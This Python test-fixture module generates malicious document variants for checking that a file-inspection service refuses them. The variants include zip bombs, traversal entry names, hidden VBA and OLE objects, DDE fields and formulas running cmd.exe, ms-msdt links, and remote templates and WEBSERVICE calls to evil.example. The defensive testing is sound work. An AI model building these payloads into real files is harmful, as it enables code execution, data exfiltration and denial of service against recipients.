"""Files made to do harm: what each does to an honest file, and the refusal it must meet.

`ATTACKS` is read by the tests, once each, and by the trial, many times over with chance in sizes, places and names.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from ita_core.errors import Refused
from ita_core.evidence import inspect as refusals
from tests import files

Mutate = Callable[[bytes, Random], bytes]
ZEROS = b"\0" * 1024**2


@dataclass(frozen=True)
class Attack:
    family: str
    name: str
    suffix: str
    refusal: type[Refused]
    mutate: Mutate


ATTACKS: list[Attack] = []
WORD, EXCEL, SLIDES = ".docx", ".xlsx", ".pptx"
OFFICE = (WORD, EXCEL, SLIDES)
MAIN = {WORD: "word/document.xml", EXCEL: "xl/workbook.xml", SLIDES: "ppt/presentation.xml"}
FOLDER = {WORD: "word", EXCEL: "xl", SLIDES: "ppt"}
OF = {WORD: "application/vnd.openxmlformats-officedocument.wordprocessingml",
      EXCEL: "application/vnd.openxmlformats-officedocument.spreadsheetml",
      SLIDES: "application/vnd.openxmlformats-officedocument.presentationml"}  # fmt: skip


def original(suffix: str) -> bytes:
    """The honest file that an attack starts from."""
    return {
        ".docx": files.word, ".xlsx": files.excel, ".pptx": files.slides, ".doc": files.doc, ".xls": files.xls,
        ".pdf": lambda: files.pdf(pages=3), ".jpg": lambda: files.picture("JPEG"), ".png": lambda: files.picture("PNG"),
        ".webp": lambda: files.picture("WEBP"), ".mp4": files.film,
    }[suffix]()  # fmt: skip


def attack(family: str, refusal: type[Refused], *suffixes: str, name: str = "") -> Callable[[Mutate], Mutate]:
    def add(mutate: Mutate) -> Mutate:
        for suffix in suffixes:
            ATTACKS.append(Attack(family, name or mutate.__name__, suffix, refusal, mutate))
        return mutate

    return add


def folder_of(content: bytes) -> tuple[str, str]:
    """The ending and the folder of an office file."""
    names = zipfile.ZipFile(io.BytesIO(content)).namelist()
    return next((suffix, folder) for suffix, folder in FOLDER.items() if MAIN[suffix] in names)


# --- types -----------------------------------------------------------------------------------------------------------


@attack("wrong type", refusals.UnknownKind, ".pdf", ".docx", ".jpg", ".mp4")
def a_program(_content: bytes, random: Random) -> bytes:
    return random.choice([b"MZ\x90\0", b"\x7fELF\x02\x01", b"#!/bin/sh\n", b"\xca\xfe\xba\xbe"]) + random.randbytes(
        2000
    )


@attack("wrong type", refusals.UnknownKind, ".pdf", ".png")
def a_web_page(_content: bytes, random: Random) -> bytes:
    return b"<html><script>alert(%d)</script></html>" % random.randrange(10**6)


@attack("wrong type", refusals.NotWhatItSays, ".pdf", ".docx", ".jpg", ".mp4")
def another_kind(content: bytes, _random: Random) -> bytes:
    return files.excel() if not content.startswith(b"PK") else files.picture("PNG")


@attack("wrong type", refusals.UnknownKind, ".docx")
def any_zip(_content: bytes, random: Random) -> bytes:
    return files.packed({f"{random.randrange(1000)}.txt": b"x", "word/document.xml": b"<a/>"})


@attack("wrong type", refusals.UnknownKind, ".mp4")
def a_picture_of_a_phone(content: bytes, random: Random) -> bytes:
    return content[:8] + random.choice([b"heic", b"avif", b"M4A ", b"qt  "]) + content[12:]


@attack("two kinds", refusals.TwoKinds, ".pdf", ".jpg", ".png", ".webp", ".mp4")
def a_zip_behind(content: bytes, random: Random) -> bytes:
    return content + files.packed({f"{random.randrange(100)}.txt": random.randbytes(random.randrange(1, 500))})


@attack("two kinds", refusals.TwoKinds, ".jpg")
def a_pdf_in_the_head_of_a_picture(content: bytes, random: Random) -> bytes:
    comment = random.randbytes(random.randrange(200)).replace(b"%", b"") + b"%PDF-1.5\n1 0 obj"
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + content[2:]


@attack("two kinds", refusals.TwoKinds, *OFFICE)
def a_pdf_in_the_head_of_a_package(content: bytes, _random: Random) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("a.txt", b"%PDF-1.7\n1 0 obj")
        for name, data in files.parts(content).items():
            archive.writestr(name, data)
    return made.getvalue()


@attack("two kinds", refusals.TwoKinds, ".mp4")
def a_pdf_in_the_head_of_a_film(content: bytes, _random: Random) -> bytes:
    length = struct.unpack(">L", content[:4])[0]
    return content[:length] + struct.pack(">L4s", 40, b"free") + b"%PDF-1.4".ljust(32) + content[length:]


@attack("two kinds", refusals.UnknownKind, ".pdf")
def something_before_a_pdf(content: bytes, random: Random) -> bytes:
    return random.choice([b"<?php ?>", b"\n", b"GIF89a", b"\0\0"]) + content


# --- cut off ---------------------------------------------------------------------------------------------------------


@attack("cut off", refusals.CutOff, ".pdf", ".docx", ".xlsx", ".pptx", ".jpg", ".png", ".webp", ".mp4")
def cut(content: bytes, random: Random) -> bytes:
    least = 40 if content[4:8] == b"ftyp" else 30
    return content[: random.randrange(least, len(content) - 50)]


@attack("cut off", refusals.CutOff, ".jpg", ".png", ".webp")
def cut_by_a_few_bytes(content: bytes, random: Random) -> bytes:
    return content[: -random.randrange(1, 12)]


@attack("cut off", refusals.CutOff, ".mp4")
def a_film_without_its_index(content: bytes, random: Random) -> bytes:
    return content.replace(b"moov", random.choice([b"free", b"skip", b"moo "]))


@attack("cut off", refusals.Broken, ".doc", ".xls")
def cut_compound_file(content: bytes, random: Random) -> bytes:
    return content[: random.randrange(512, 1500)]


# --- zips ------------------------------------------------------------------------------------------------------------


def _written(content: bytes, extra: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in [*files.parts(content).items(), *extra]:
            archive.writestr(name, data)
    return made.getvalue()


@attack("zip", refusals.StrangeZip, *OFFICE)
def the_same_name_twice(content: bytes, random: Random) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        suffix, _folder = folder_of(content)
        name = MAIN[suffix]
        return _written(content, [(name.upper() if random.random() < 0.5 else name, b"<other/>")])


def _raw_name(content: bytes, name: str) -> bytes:
    """Written byte by byte: zipfile mends some names as it writes them."""
    plain = "q" * len(name.encode())
    return _written(content, [(plain, b"x")]).replace(plain.encode(), name.encode())


@attack("zip", refusals.StrangeZip, *OFFICE)
def a_document_under_the_name_of_another_part(content: bytes, random: Random) -> bytes:
    """To its program a part is what its content type says, whatever it is called."""
    suffix, folder = folder_of(content)
    kind = {WORD: ".document.main+xml", EXCEL: ".worksheet+xml", SLIDES: ".slide+xml"}[suffix]
    name = random.choice(["customXml/item9.xml", f"{folder}/a.vml", f"{folder}/_rels/b.rels", f"{folder}/c.SVG"])
    parts = files.parts(content)
    says = f'<Override PartName="/{name}" ContentType="{OF[suffix]}{kind}"/></Types>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", says)
    return files.packed(parts | {name: parts[MAIN[suffix]]})


@attack("zip", refusals.StrangeZip, *OFFICE)
def a_name_that_climbs(content: bytes, random: Random) -> bytes:
    return _raw_name(content, random.choice(["../../evil.xml", "word/../../evil.xml", "a/..", "..\\evil.xml"]))


@attack("zip", refusals.StrangeZip, *OFFICE)
def a_name_that_is_a_place(content: bytes, random: Random) -> bytes:
    return _raw_name(content, random.choice(["/etc/passwd.xml", "C:/evil.xml", "\\\\host\\evil", "a\\b.xml"]))


@attack("zip", refusals.StrangeZip, *OFFICE)
def a_name_with_control_characters(content: bytes, random: Random) -> bytes:
    return _raw_name(content, f"word/a{chr(random.choice([0, 1, 10, 13, 27, 127]))}b.xml")


@attack("zip", refusals.StrangeZip, *OFFICE)
def overlapping_entries(content: bytes, random: Random) -> bytes:
    """Several entries of the directory share one content, as in David Fifield's bomb."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        one = random.choice(archive.infolist())
        start, end = archive.start_dir, content.rindex(b"PK\x05\x06")
    name = one.filename.encode()
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, one.compress_type, 0, 0x21, one.CRC,
                        one.compress_size, one.file_size, len(name), 0, 0, 0, 0, 0, one.header_offset)  # fmt: skip
    many = b"".join(entry + name[:-1] + bytes([65 + number]) for number in range(random.randrange(1, 20)))
    count = struct.unpack_from("<H", content, end + 10)[0] + many.count(b"PK\x01\x02")
    closing = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, end - start + len(many), start, 0)
    return content[:end] + many + closing


@attack("zip", refusals.StrangeZip, *OFFICE)
def two_names_for_one_entry(content: bytes, random: Random) -> bytes:
    """The entry and the directory call it differently: two programs unpack two things."""
    suffix, _folder = folder_of(content)
    name = random.choice([MAIN[suffix], "_rels/.rels"]).encode()
    return content.replace(name, name[:-1] + b"X", 1)


@attack("zip", refusals.StrangeZip, *OFFICE)
def something_before_the_first_entry(content: bytes, random: Random) -> bytes:
    return b"PK\x03\x04" + random.randbytes(random.randrange(1, 300)) + content


@attack("zip", refusals.StrangeZip, *OFFICE)
def an_unusual_packing(content: bytes, random: Random) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", random.choice([zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])) as archive:
        for name, data in files.parts(content).items():
            archive.writestr(name, data)
    return made.getvalue()


@attack("zip", refusals.PasswordProtected, *OFFICE)
def an_encrypted_entry(content: bytes, _random: Random) -> bytes:
    made = bytearray(content)
    made[6] |= 1
    made[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


@attack("bomb", refusals.Bomb, *OFFICE)
def too_many_entries(content: bytes, random: Random) -> bytes:
    return _written(content, [(f"a/{number}", b"") for number in range(10_001 + random.randrange(100))])


def _packed_zeros(megabytes: int) -> tuple[bytes, int, int]:
    packing, crc, made = zlib.compressobj(9, zlib.DEFLATED, -15), 0, []
    for _number in range(megabytes):
        made.append(packing.compress(ZEROS))
        crc = zlib.crc32(ZEROS, crc)
    return b"".join([*made, packing.flush()]), crc, megabytes * 1024**2


def _with_raw_entry(content: bytes, name: str, packed: bytes, crc: int, says: int) -> bytes:
    """The package with an entry whose directory says what we like."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        start, end = archive.start_dir, content.rindex(b"PK\x05\x06")
    raw = name.encode()
    local = (
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed), says, len(raw), 0) + raw + packed
    )
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(packed), says, len(raw), 0, 0, 0,
                        0, 0, start) + raw  # fmt: skip
    count = struct.unpack_from("<H", content, end + 10)[0] + 1
    closing = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, end - start + len(entry), start + len(local), 0
    )
    return content[:start] + local + content[start:end] + entry + closing


@attack("bomb", refusals.Bomb, *OFFICE)
def a_part_of_zeros(content: bytes, random: Random) -> bytes:
    packed, crc, size = _packed_zeros(random.randrange(20, 60))
    _suffix, folder = folder_of(content)
    return _with_raw_entry(content, f"{folder}/media/image9.xml", packed, crc, size)


@attack("bomb", refusals.Bomb, *OFFICE)
def a_part_that_says_it_is_small(content: bytes, random: Random) -> bytes:
    packed, _crc, _size = _packed_zeros(random.randrange(20, 40))
    says = random.randrange(1, 4000)
    return _with_raw_entry(content, "docProps/extra.jpeg", packed, zlib.crc32(bytes(says)), says)


@attack("bomb", refusals.Bomb, *OFFICE)
def parts_that_say_they_are_huge(content: bytes, random: Random) -> bytes:
    return _with_raw_entry(content, "a.bin", b"\x03\0", 0, random.randrange(500 * 1024**2, 2**32 - 1))


@attack("bomb", refusals.Bomb, WORD, SLIDES)
def a_bomb_inside_a_workbook(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    packed, crc, size = _packed_zeros(random.randrange(20, 40))
    inside = _with_raw_entry(files.excel(), "xl/media/a.xml", packed, crc, size)
    return files.added(content, f"{folder}/embeddings/Microsoft_Excel_Sheet1.xlsx", inside)


@attack("bomb", refusals.Bomb, WORD)
def packages_in_packages(content: bytes, random: Random) -> bytes:
    inside = files.excel()
    for _level in range(random.randrange(3, 6)):
        inside = files.added(files.excel(), "xl/embeddings/a.xlsx", inside)
    return files.added(content, "word/embeddings/a.xlsx", inside)


# --- macros, embedded things, controls -------------------------------------------------------------------------------

VBA = files.compound({"VBA/_VBA_PROJECT": b"\xcc\x61" + b"\0" * 30, "VBA/dir": b"x" * 100, "PROJECT": b"ID="})


@attack("macros", refusals.Macros, *OFFICE)
def a_vba_project(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    made = files.added(content, f"{folder}/vbaProject.bin", VBA, "application/vnd.ms-office.vbaProject")
    return made if random.random() < 0.5 else files.related(made, "vbaProject", "vbaProject.bin", external=False)


@attack("macros", refusals.Macros, *OFFICE)
def a_vba_project_by_another_name(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    name = f"{folder}/{random.choice(['theme7', 'data', 'printerSettings1'])}.bin"
    return files.added(content, name, VBA, "application/vnd.ms-office.vbaProject")


@attack("macros", refusals.Macros, *OFFICE)
def a_macro_document_by_another_name(content: bytes, _random: Random) -> bytes:
    suffix, _folder = folder_of(content)
    old = {WORD: "document.main", EXCEL: "sheet.main", SLIDES: "presentation.main"}[suffix]
    new = {WORD: "application/vnd.ms-word.document.macroEnabled.main",
           EXCEL: "application/vnd.ms-excel.sheet.macroEnabled.main",
           SLIDES: "application/vnd.ms-powerpoint.presentation.macroEnabled.main"}[suffix]  # fmt: skip
    return files.changed(content, "[Content_Types].xml", f"{OF[suffix]}.{old}", new)


@attack("macros", refusals.Macros, EXCEL)
def a_sheet_of_macros(content: bytes, random: Random) -> bytes:
    sheet = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    if random.random() < 0.5:
        return files.added(content, "xl/macrosheets/sheet1.xml", sheet, "application/vnd.ms-excel.macrosheet+xml")
    made = files.added(content, "xl/worksheets/sheet9.xml", sheet, "application/xml")
    return files.related(made, "xlMacrosheet", "worksheets/sheet9.xml", external=False)


@attack("macros", refusals.Macros, SLIDES)
def macros_in_the_workbook_of_a_chart(_content: bytes, _random: Random) -> bytes:
    content = files.slides(chart=True)
    name = next(name for name in files.parts(content) if name.endswith(".xlsx"))
    inside = a_vba_project(files.excel(), Random(0))
    return files.packed({**files.parts(content), name: inside})


@attack("template", refusals.Template, *OFFICE)
def a_template(content: bytes, random: Random) -> bytes:
    suffix, _folder = folder_of(content)
    old = {WORD: "document.main", EXCEL: "sheet.main", SLIDES: "presentation.main"}[suffix]
    new = random.choice(["template.main", "slideshow.main"]) if suffix == SLIDES else "template.main"
    return files.changed(content, "[Content_Types].xml", f"{OF[suffix]}.{old}", f"{OF[suffix]}.{new}")


OLE = files.compound({"\x01Ole10Native": b"\0" * 50 + b"cmd.exe", "\x01CompObj": b"x" * 20})


@attack("embedded", refusals.Embedded, *OFFICE)
def an_ole_object(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    kind = "application/vnd.openxmlformats-officedocument.oleObject" if random.random() < 0.5 else ""
    name = f"{folder}/{random.choice(['embeddings/oleObject1.bin', 'media/image7.png', 'a.dat'])}"
    return files.added(content, name, OLE, kind)


@attack("embedded", refusals.Embedded, *OFFICE)
def a_program_inside(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    name, data = random.choice([("a.exe", b"x"), ("b.js", b"x"), ("c.bin", b"MZ\x90\0"), ("d.png", b"\x7fELF"),
                                ("e.pdf", files.pdf()), ("f.zip", files.packed({"a.exe": b"MZ"})), ("g.hta", b"<a>"),
                                ("h.rtf", b"{\\rtf1"), ("i.html", b"<script>")])  # fmt: skip
    return files.added(content, f"{folder}/embeddings/{name}", data)


@attack("embedded", refusals.Embedded, WORD)
def a_chunk_of_html(content: bytes, random: Random) -> bytes:
    made = files.added(content, "word/chunk.dat", b"<html><script>" + random.randbytes(10).hex().encode())
    return files.related(made, "aFChunk", "chunk.dat", external=False)


@attack("embedded", refusals.Embedded, WORD, SLIDES)
def a_package_that_is_none(content: bytes, random: Random) -> bytes:
    suffix, folder = folder_of(content)
    made = files.added(content, f"{folder}/embeddings/a.bin", b"x" + random.randbytes(100))
    target = "embeddings/a.bin" if suffix == WORD else "../embeddings/a.bin"
    return files.related(made, "package", target, external=False)


@attack("controls", refusals.Controls, *OFFICE)
def an_activex_control(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    control = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{0}"/>'
    if random.random() < 0.5:
        return files.added(content, f"{folder}/activeX/activeX1.xml", control, "application/vnd.ms-office.activeX+xml")
    return files.related(files.added(content, f"{folder}/c1.xml", control), "control", "c1.xml", external=False)


# --- links to outside ------------------------------------------------------------------------------------------------

FAR = ("http://evil.example/a", "https://evil.example/a.png", "file://evil/share/a", "\\\\evil\\share\\a",
       "file:////evil/share/a", "ftp://evil.example/a", "mhtml:http://evil.example/a!x")  # fmt: skip


@attack("links", refusals.LinkedContent, *OFFICE)
def a_part_from_outside(content: bytes, random: Random) -> bytes:
    kind = random.choice(["image", "oleObject", "frame", "subDocument", "video", "audio", "mailMergeSource", "package",
                          "mailMergeHeaderSource", "recipientData", "transform", "media", "model3d", "slideUpdateUrl",
                          "htmlPubSaveAs", "aFChunk", "connections", "queryTable", "font"])  # fmt: skip
    return files.related(content, kind, random.choice(FAR))


@attack("links", refusals.LinkedContent, *OFFICE)
def a_part_from_outside_that_says_it_is_inside(content: bytes, random: Random) -> bytes:
    return files.related(content, "image", random.choice(FAR), external=False)


ODD = ("javascript:alert(1)", "java&#9;script:alert(1)", "\u200bJavaScript:x", "vbscript:x", "data:text/html,x",
       "ms-msdt:/id%20PCWDiagnostic", "search-ms:query=a", "mhtml:http://a!b", "shell:startup",
       "ms-word:ofe|u|http://a",
       "\\\\evil\\share", "//evil/share", "file://evil/share/a", "%5C%5Cevil/a", "/\\evil/a", "ldap://evil",
       "https://www.moi.go.th@evil.example/", "http:\\\\www.moi.go.th\\@evil.example",
       "mailto:a@evil.example?subject=a&amp;attach=/etc/passwd", "https://evil.example/\u202efdp.exe",
       "calc.exe", "../a.lnk", "file:///C:/Windows/System32/calc.exe")  # fmt: skip


@attack("links", refusals.OddLink, *OFFICE)
def a_link_that_acts(content: bytes, random: Random) -> bytes:
    return files.related(content, "hyperlink", random.choice(ODD))


@attack("links", refusals.RemoteTemplate, WORD)
def a_template_from_outside(content: bytes, random: Random) -> bytes:
    place = random.choice(["http://evil.example/a.dotm", "file://evil/a.dotm", "\\\\evil\\a.dotm", "file:///\\\\evil\\a.dotm",
                           "file:////evil/a.dotm", "file:///%5C%5Cevil/a.dotm"])  # fmt: skip
    made = files.parts(content)
    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{files.RELATIONS}attachedTemplate" Target="{place}" TargetMode="External"/></Relationships>'  # noqa: E501
    return files.packed({**made, "word/_rels/settings.xml.rels": relations.encode()})


@attack("links", refusals.LinkedWorkbook, EXCEL)
def another_workbook(content: bytes, random: Random) -> bytes:
    if random.random() < 0.5:
        kind = random.choice(["externalLinkPath", "xlExternalLinkPath/xlPathMissing"])
        return files.related(content, kind, "file:///C:/a.xlsx")
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return files.added(content, "xl/externalLinks/externalLink1.xml", link, OF[EXCEL] + ".externalLink+xml")


def _loaded(content: bytes, part: str, is_a: str, random: Random) -> bytes:
    """A part that acts, named and typed as something else, and loaded by its relationship."""
    if "word/document.xml" in files.parts(content):
        space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        field = '<w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example&quot;"/>'
        kind, xml = "header", f"<w:hdr {space}><w:p>{field}</w:p></w:hdr>"
    else:
        kind, xml = "worksheet", f'<worksheet {SHEET}><f>_xlfn.WEBSERVICE("http://evil.example")</f></worksheet>'
    target = "/" + (part.replace("/e", "/%65") if random.random() < 0.5 else part)
    return files.related(files.added(content, part, _in_some_coding(xml, random), is_a), kind, target, external=False)


@attack("wrong type", refusals.StrangeZip, WORD, EXCEL)
def a_part_that_is_loaded_as_another_than_it_is_called(content: bytes, random: Random) -> bytes:
    part = random.choice(["media/evil.dat", "media/evil.vml", "media/evil.svg", "customXml/evil.xml"])
    return _loaded(content, part, "image/png" if part.endswith(".dat") else "application/xml", random)


@attack("links", refusals.LinkedContent, *OFFICE)
def a_stylesheet_before_a_part(content: bytes, random: Random) -> bytes:
    suffix, _folder = folder_of(content)
    made = files.parts(content)
    said = b'<?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?>'
    first = made[MAIN[suffix]]
    place = first.index(b"?>") + 2 if first.startswith(b"<?xml") else 0
    return files.packed({**made, MAIN[suffix]: first[:place] + said + first[place:]})


@attack("links", refusals.LinkedContent, *OFFICE)
def a_panel_that_is_fetched(content: bytes, random: Random) -> bytes:
    xsn = '<customXsn xmlns="http://schemas.microsoft.com/office/2006/metadata/customXsn"><xsnLocation>{}</xsnLocation></customXsn>'
    return files.added(content, "customXml/item9.xml", xsn.format(random.choice(FAR)).encode(), "application/xml")


PICTURES_OF_VML = (
    '<v:imagedata xmlns:o="o" o:href="{}"/>',
    '<v:fill xmlns:o="o" o:althref="{}"/>',
    "<v:stroke src='{}'/>",
)


@attack("links", refusals.LinkedContent, *OFFICE)
def a_picture_of_a_shape_from_outside(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    shape = random.choice(PICTURES_OF_VML).format(random.choice(FAR))
    vml = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape>{shape}</v:shape></xml>'
    is_a = "application/vnd.openxmlformats-officedocument.vmlDrawing"
    return files.added(content, f"{folder}/drawings/vmlDrawing9.vml", vml.encode(), is_a)


# --- fields, formulas, actions ---------------------------------------------------------------------------------------


@attack("fields", refusals.CommandField, WORD)
def a_dde_field(_content: bytes, random: Random) -> bytes:
    code = random.choice(
        [" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", "DDE excel a b", ' "DDEAUTO" cmd', "ddeauto cmd "]
    )
    places = sorted(random.randrange(1, len(code)) for _number in range(random.randrange(4)))
    return files.with_field(*(code[a:b] for a, b in zip([0, *places], [*places, len(code)], strict=True)))


@attack("fields", refusals.CommandField, WORD)
def a_field_whose_name_is_computed(content: bytes, random: Random) -> bytes:
    character = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    inner = " ".join(str(ord(letter)) for letter in "DDEAUTO")
    field = (
        f"<w:p>{character.format('begin')}{'<w:r><w:instrText> </w:instrText></w:r>' * random.randrange(3)}"
        f"{character.format('begin')}<w:r><w:instrText>QUOTE {inner}</w:instrText></w:r>{character.format('end')}"
        f"<w:r><w:instrText>c:\\\\cmd.exe</w:instrText></w:r>{character.format('end')}</w:p><w:sectPr"
    )
    return files.changed(content, "word/document.xml", "<w:sectPr", field)


@attack("fields", refusals.CommandField, WORD)
def a_dde_field_in_another_coding(content: bytes, _random: Random) -> bytes:
    made = files.parts(files.with_field("DDE", "AUTO cmd"))
    whole = made["word/document.xml"].decode().replace("UTF-8", "UTF-16", 1)
    return files.packed({**made, "word/document.xml": whole.encode("utf-16")})


@attack("fields", refusals.CommandField, WORD)
def a_simple_dde_field_in_a_header(content: bytes, _random: Random) -> bytes:
    header = f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></w:hdr>'  # noqa: E501, F541
    return files.added(content, "word/header9.xml", header.encode(), OF[WORD] + ".header+xml")


@attack("fields", refusals.LinkedContent, WORD)
def a_field_that_fetches(_content: bytes, random: Random) -> bytes:
    return files.with_field(random.choice([
        'INCLUDETEXT "\\\\\\\\evil\\\\a.docx"', 'INCLUDEPICTURE "http://evil.example/a.png" \\* MERGEFORMAT',
        "INCLUDEPICTURE \\\\\\\\evil\\\\a.png", 'INCLUDEPICTURE \\d "http://evil.example/a.png"',
        'DATABASE \\d "http://evil.example/a"', "INCLUDE http://evil.example/a.docx", "RD http://evil.example/a.docx",
        "LINK Excel.Sheet.12 a b", "IMPORT http://evil.example/a.png",
    ]))  # fmt: skip


@attack("fields", refusals.OddLink, WORD)
def a_field_whose_link_acts(_content: bytes, random: Random) -> bytes:
    place = random.choice([place for place in ODD if "&" not in place])
    return files.with_field(
        random.choice(['HYPERLINK "{}"', 'HYPERLINK \\t "_blank" "{}"', 'HYPERLINK \\n "{}" \\o "a"']).format(place)
    )


def _sheet(content: bytes, formula: str) -> bytes:
    made = files.parts(content)
    name = "xl/worksheets/sheet1.xml"
    cell = f'<sheetData><row r="99"><c r="A99"><f>{formula}</f></c></row>'
    return files.packed({**made, name: made[name].replace(b"<sheetData>", cell.encode(), 1)})


@attack("formulas", refusals.CommandField, EXCEL)
def a_dde_formula(content: bytes, random: Random) -> bytes:
    formulas = [
        "cmd|'/C calc'!A0",
        "MSEXCEL|'\\..\\cmd.exe /c x'!''",
        "1+cmd&#124;'/c x'!A0",
        "cmd&#x7c;'/c x'!A0",
        "'cmd|/c x'!A0",
        "cmd<!-- -->|'/c x'!A0",
        "<![CDATA[cmd|a!b]]>",
        'IF(A1="|",cmd|a!b,1)',
    ]
    return _sheet(content, random.choice(formulas))


@attack("formulas", refusals.CommandField, EXCEL)
def a_dde_formula_in_another_coding(content: bytes, _random: Random) -> bytes:
    made = files.parts(_sheet(content, "cmd|'/C calc'!A0"))
    whole = '<?xml version="1.0" encoding="UTF-16"?>' + made["xl/worksheets/sheet1.xml"].decode().rpartition("?>")[2]
    return files.packed({**made, "xl/worksheets/sheet1.xml": whole.encode("utf-16")})


@attack("formulas", refusals.CommandField, EXCEL)
def a_dde_name(content: bytes, _random: Random) -> bytes:
    name = "<definedNames><definedName name=\"a\">cmd|'/c x'!A0</definedName></definedNames></workbook>"
    content = files.packed({**files.parts(content)})
    made = files.parts(content)
    workbook = made["xl/workbook.xml"].replace(b"<definedNames />", b"").replace(b"</workbook>", name.encode())
    return files.packed({**made, "xl/workbook.xml": workbook})


CALLS = ['_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', 'RTD("a.b",,"c")', '_xlfn.IMAGE("http://evil.example/a")',
         'IMAGE ("http://evil.example/a")', "1+image(A1)", '_xlfn.FILTERXML(A1,"//a")', '_xlfn.STOCKHISTORY("MSFT",A1)',
         'CUBEVALUE("a","[Measures].[b]")', 'CUBESETCOUNT(CUBESET("a","b"))', '_xlfn.TRANSLATE("a","en","th")',
         '_xlfn._xlws.PY(0,0)', '_xlfn.COPILOT("a")', '_xlfn.FIELDVALUE(A1,"Price")', 'CALL("a","b","c")',
         'REGISTER.ID("a","b")', 'IMPORTXML("http://evil.example","//a")', '_xlfn.IMPORTTEXT("http://evil.example/a")',
         "I&#77;AGE(A1)", "IM<!-- -->AGE(A1)", "<![CDATA[IMAGE(A1)]]>",
         # What a name or a text is taken for does not hide a call.
         "_xlfn.MAP(A1:A9,_xleta.IMAGE)", '_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("http://evil.example"))',
         'FILES("\\\\evil\\share\\*")',
         "'a\"b'!A1+WEBSERVICE(\"x\")",
         "SUM(T['#a])+WEBSERVICE(A1&amp;T['#b])", '"it\'s"&amp;IMAGE("\'!")']  # fmt: skip


@attack("formulas", refusals.FetchesData, EXCEL)
def a_formula_that_calls_out(content: bytes, random: Random) -> bytes:
    return _sheet(content, random.choice(CALLS))


@attack("formulas", refusals.FetchesData, EXCEL)
def a_formula_that_calls_out_in_another_coding(content: bytes, random: Random) -> bytes:
    made = files.parts(_sheet(content, random.choice(CALLS[:4])))
    whole = '<?xml version="1.0" encoding="UTF-16"?>' + made["xl/worksheets/sheet1.xml"].decode().rpartition("?>")[2]
    return files.packed({**made, "xl/worksheets/sheet1.xml": whole.encode("utf-16")})


@attack("formulas", refusals.FetchesData, EXCEL)
def a_call_outside_of_cells(content: bytes, random: Random) -> bytes:
    call = random.choice(CALLS[:4])
    where = random.choice([
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula></cfRule>'
        "</conditionalFormatting>",
        '<dataValidations><dataValidation sqref="A1"><formula1>{}</formula1></dataValidation></dataValidations>',
        '<extLst><ext><xm:f xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">{}</xm:f></ext></extLst>',
    ])  # fmt: skip
    return files.changed(content, "xl/worksheets/sheet1.xml", "</worksheet>", where.format(call) + "</worksheet>")


@attack("formulas", refusals.FetchesData, EXCEL)
def a_name_that_calls_out(content: bytes, random: Random) -> bytes:
    name = f'<definedNames><definedName name="a">{random.choice(CALLS[:4])}</definedName></definedNames></workbook>'
    made = files.parts(content)
    workbook = made["xl/workbook.xml"].replace(b"<definedNames />", b"").replace(b"</workbook>", name.encode())
    return files.packed({**made, "xl/workbook.xml": workbook})


@attack("formulas", refusals.OddLink, EXCEL)
def a_formula_whose_link_acts(content: bytes, random: Random) -> bytes:
    place = random.choice([place for place in ODD if "&" not in place])
    return _sheet(content, random.choice(['HYPERLINK("{}","a")', 'IF(1,HYPERLINK( "{}"))']).format(place))


# LibreOffice takes each for a link to that workbook, without a part that declares it.
WORKBOOKS = ("'http://evil.example/[a.xlsx]S'!A1", "'\\\\evil\\share\\[a.xlsx]S'!A1", "1+[a.xlsx]S!A1",
             "'file:///evil/[it''s.xlsx]S'!A1", "[a.xlsx]!Name", "&apos;http://evil.example/[a.xlsx]S&apos;!A1",
             "'http://evil.example/&#91;a.xlsx]S'!A1")  # fmt: skip


@attack("formulas", refusals.LinkedWorkbook, EXCEL)
